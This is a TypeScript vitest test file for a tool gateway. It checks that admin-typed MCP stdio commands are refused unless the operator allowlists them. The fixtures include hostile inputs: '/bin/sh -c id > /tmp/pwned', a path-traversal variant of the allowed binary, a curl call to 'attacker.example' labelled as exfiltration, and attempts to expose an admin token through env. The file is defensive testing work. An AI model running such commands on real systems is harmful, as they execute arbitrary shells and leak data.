import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fetchMcpTools } from '../../server/mcp/client.ts';
import { parseMcpCommands } from '../../server/mcp/transport-policy.ts';
import { StateFileServer, TEST_MCP_POLICY, objectSchema } from '../fixtures/mcp/servers.ts';
import { type Harness, createHarness } from '../mcp/harness.ts';

// An admin (or anyone holding an admin token) types a transport; the operator decides what runs.
let h: Harness;
const fixture = new StateFileServer({ tools: [{ name: 'lookup', description: 'Look up', inputSchema: objectSchema() }] });
beforeAll(async () => {
  h = await createHarness({ commands: [process.execPath], allowHosts: [] });
});
afterAll(async () => {
  fixture.dispose();
  await h.close();
});

const create = (id: string, transport: unknown) => h.call('admin', 'POST', '/v1/mcp-servers', { id, label: id, transport });

describe('an admin-typed stdio command runs only when the operator listed it', () => {
  const attempts: Array<[string, unknown]> = [
    ['a shell by absolute path', { kind: 'stdio', command: '/bin/sh', args: ['-c', 'id > /tmp/pwned'] }],
    ['a shell found on PATH', { kind: 'stdio', command: 'sh', args: ['-c', 'id'] }],
    ['node found on PATH (not the listed absolute path)', { kind: 'stdio', command: 'node', args: ['-e', '1'] }],
    [
      'the listed path spelled another way',
      { kind: 'stdio', command: `${process.execPath.replace(/\/[^/]+$/, '')}/../${process.execPath.split('/').slice(-2).join('/')}`, args: [] },
    ],
    ['curl to exfiltrate', { kind: 'stdio', command: '/usr/bin/curl', args: ['https://attacker.example/'] }],
  ];
  for (const [what, transport] of attempts) {
    it(`refuses to save ${what} with a 400 naming /transport/command`, async () => {
      const res = await create('evil', transport);
      expect(res.status).toBe(400);
      const body = (await res.json()) as { errors: Array<{ pointer: string; message: string; code: string }> };
      expect(body.errors).toContainEqual(
        expect.objectContaining({ pointer: '/transport/command', code: 'transport_not_allowed', message: expect.stringContaining('TOOLGATE_MCP_COMMANDS') }),
      );
      expect((await h.call('admin', 'GET', '/v1/mcp-servers/evil')).status).toBe(404);
    });
  }

  it('refuses TOOLGATE_* variables in env, whatever their case', async () => {
    const res = await create('envy', { kind: 'stdio', command: process.execPath, args: [], env: ['OK_NAME', 'TOOLGATE_ADMIN_TOKEN', 'toolgate_db'] });
    expect(res.status).toBe(400);
    const body = (await res.json()) as { errors: Array<{ pointer: string }> };
    expect(body.errors.map((e) => e.pointer)).toEqual(['/transport/env/1', '/transport/env/2']);
  });

  it('refuses an edit that swaps an allowed command for another', async () => {
    expect((await create('ok', fixture.transport())).status).toBe(201);
    const got = await h.call('admin', 'GET', '/v1/mcp-servers/ok');
    const res = await h.call(
      'admin',
      'PATCH',
      '/v1/mcp-servers/ok',
      { transport: { kind: 'stdio', command: '/bin/sh', args: ['-c', 'id'] } },
      { 'if-match': got.headers.get('etag')! },
    );
    expect(res.status).toBe(400);
  });

  it('refuses again at connect time when the operator no longer lists the command', async () => {
    // Saved while allowed; the operator then restarts without it.
    const saved = await h.call('admin', 'GET', '/v1/mcp-servers/ok');
    expect(saved.status).toBe(200);
    h.deps.config.mcp = { commands: [], allowHosts: [] };
    try {
      const res = await h.call('admin', 'POST', '/v1/mcp-servers/ok/sync');
      expect(res.status).toBe(502);
      const body = (await res.json()) as { detail: string };
      expect(body.detail).toMatch(/is not allowed to connect: \/transport\/command is not a command the operator allows/);
      expect((await h.call('admin', 'GET', '/v1/tools/mcp__ok__lookup')).status).toBe(404);
    } finally {
      h.deps.config.mcp = { commands: [process.execPath], allowHosts: [] };
    }
  });

  it('refuses in the client itself, whoever calls it', async () => {
    const r = await fetchMcpTools({ id: 'direct', transport: { kind: 'stdio', command: '/bin/sh', args: ['-c', 'echo hi'] } }, { policy: TEST_MCP_POLICY });
    expect(r).toMatchObject({ ok: false, message: expect.stringContaining('not allowed to connect') });
    const none = await fetchMcpTools({ id: 'direct', transport: fixture.transport() }, { policy: { commands: [], allowHosts: [] } });
    expect(none).toMatchObject({ ok: false, message: expect.stringContaining('lists none, so no stdio server may run') });
  });

  it('reads TOOLGATE_MCP_COMMANDS as absolute paths only', () => {
    expect(parseMcpCommands(undefined)).toEqual([]);
    expect(parseMcpCommands('')).toEqual([]);
    expect(parseMcpCommands('/usr/bin/a:/opt/b ')).toEqual(['/usr/bin/a', '/opt/b']);
    expect(() => parseMcpCommands('/usr/bin/a:npx')).toThrow(/"npx".*absolute path/);
  });
});
